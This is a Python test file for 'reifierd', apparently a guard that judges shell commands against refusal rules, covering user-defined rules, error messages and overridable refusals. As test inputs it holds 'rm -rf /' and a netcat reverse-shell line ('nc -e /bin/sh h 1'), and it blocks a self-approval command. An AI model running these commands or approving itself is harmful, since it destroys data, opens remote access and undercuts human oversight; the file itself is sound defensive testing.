"""Rules are data: their examples hold, alternatives trip nothing, a broken user rule is named with file and line."""

from __future__ import annotations

import pytest

from reifierd.errors import UsageError
from reifierd.shell import Context, Rule, Verdict, judge, load_rules
from reifierd.shell.rules import check_examples

RULES = load_rules()

OWN = """
[[rule]]
id = "no-deploy"
family = "own"
severity = "refuse"
reason = "Deploys are done by the pipeline."
alternative = "make plan"
when = [{commands = ["deploy now", "make deploy"], without = ["--dry-run"]}]
match = ["deploy now", "make deploy"]
pass = ["deploy later", "make test"]
"""


@pytest.mark.parametrize("rule", RULES.rules, ids=lambda r: r.id)
def test_every_example_of_a_packaged_rule_holds(rule: Rule) -> None:
    assert rule.match
    assert rule.passes
    assert check_examples(rule, RULES) == []


@pytest.mark.parametrize("rule", [r for r in RULES.rules if r.alternative], ids=lambda r: r.id)
def test_no_alternative_trips_any_rule(rule: Rule) -> None:
    judgement = judge(rule.alternative, RULES, Context())
    assert (judgement.verdict, judgement.findings) == (Verdict.ALLOW, ())


def test_every_rule_says_why_and_what_instead() -> None:
    assert [r.id for r in RULES.rules if not r.reason or not r.alternative or not r.family] == []


def test_a_users_rule_is_added() -> None:
    rules = load_rules({"rules/own.toml": OWN})
    assert [f.rule for f in judge("deploy now", rules, Context()).findings] == ["no-deploy"]
    assert judge("deploy now --dry-run", rules, Context()).verdict is Verdict.ALLOW
    assert judge("rm -rf /", rules, Context()).verdict is Verdict.REFUSE


def test_a_users_rule_replaces_the_packaged_one_of_its_name() -> None:
    own = OWN.replace("no-deploy", "crontab-remove")
    assert judge("crontab -r", load_rules({"own.toml": own}), Context()).verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("\n\n[[rule]\n", "own.toml:3"),
        ('\n[[rule]]\nid = "x"\nreason = "y"\n', "own.toml:2: a rule has no when"),
        (
            '[[rule]]\nid = "x"\nreason = "y"\nwhen = [{comands = ["a"]}]\n',
            "own.toml:1: a clause does not know comands",
        ),
        ('[[rule]]\nid = "x"\nreason = "y"\nwhen = [{operand = "("}]\n', "own.toml:1: operand is no pattern"),
        ('[[rule]]\nid = "x"\nreason = "y"\nwhen = [{effect = ["magic"]}]\n', "there is no effect “magic”"),
        (
            '[[rule]]\nid = "x"\nreason = "y"\nseverity = "maybe"\nwhen = [{commands = ["a"]}]\n',
            "severity is override or refuse",
        ),
        (OWN.replace('match = ["deploy now"', 'match = ["ls"'), "own.toml:2: rule no-deploy should match “ls”"),
        (OWN.replace('pass = ["deploy later"', 'pass = ["deploy now"'), "should not match “deploy now”"),
        (OWN.replace('alternative = "make plan"', 'alternative = "make deploy"'), "matches its own alternative"),
        ('[[rule]]\nid = "x"\nreason = "y"\nwhen = [{}]\n', "does not know what to match"),
    ],
)
def test_a_broken_user_rule_names_file_and_line(text: str, says: str) -> None:
    with pytest.raises(UsageError) as error:
        load_rules({"own.toml": text})
    assert says in str(error.value)


def test_a_user_teaches_a_program() -> None:
    programs = {
        "programs/own.toml": '[program.shopctl]\nother = "database"\n[program.shopctl.verbs]\nread = ["orders list"]\n'
    }
    rules = load_rules({}, programs)
    judgement = judge("shopctl orders list; shopctl orders drop", rules, Context())
    assert [e.kind.value for e in judgement.view.effects] == ["read-only", "database"]


def test_a_configuration_may_name_refusals_that_a_person_can_override() -> None:
    assert judge("reverse=1; nc -e /bin/sh h 1", RULES, Context()).verdict is Verdict.REFUSE
    lowered = Context(overridable=frozenset({"reverse-shell", "self-consent"}))
    assert judge("nc -e /bin/sh h 1", RULES, lowered).verdict is Verdict.OVERRIDE
    assert judge("reifierd approve x", RULES, lowered).verdict is Verdict.REFUSE
